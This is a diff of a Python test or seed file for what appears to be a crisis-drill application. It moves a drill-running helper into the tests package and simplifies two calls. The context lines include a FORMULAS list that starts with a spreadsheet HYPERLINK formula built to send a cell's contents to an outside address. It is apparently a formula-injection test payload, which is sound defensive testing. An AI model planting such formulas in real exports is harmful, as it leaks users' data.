@@ -34,7 +34,6 @@ from app.services.demo import (
 from app.services.laboratory.answer_flash import answer_flash
 from app.services.laboratory.launch_flash import FlashAsk, launch_flash
 from app.services.laboratory.read_scenarios import read_page
-from app.services.laboratory.run_drill import run_composition
 from app.services.laboratory.save_run import save_run
 from app.services.laboratory.write_scenario import change_scenario, copy_scenario
 from app.services.plans.sign_card import read_signatures, sign_cards
@@ -44,6 +43,7 @@ from app.store import community, flashes, people
 from app.store.database import Connection, Store
 from tests.abuse.a_crisis import an_exercise_under_way
 from tests.drills.a_flash import composed as composed_flash
+from tests.services.a_drill import run_composition
 
 FORMULAS = (
     '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
@@ -163,8 +163,8 @@ def _drills(store: Store) -> None:
     composed = Composition(
         starts_at=store.now(), title=words, scenario=code, shocks=held.shocks, plan=(*held.answers, TEAM)
     )
-    save_run(COMMAND_LINE, store, run_composition(COMMAND_LINE, store, composed), words)
-    save_run(COMMAND_LINE, store, run_composition(COMMAND_LINE, store, composed), f"{words} 2")
+    save_run(COMMAND_LINE, store, run_composition(store, composed), words)
+    save_run(COMMAND_LINE, store, run_composition(store, composed), f"{words} 2")
     override_road(COMMAND_LINE, store, "56168-56234", 45, "x", 0)
     with store.reading() as conn:
         everyone = tuple(one.id for one in people.every(conn))
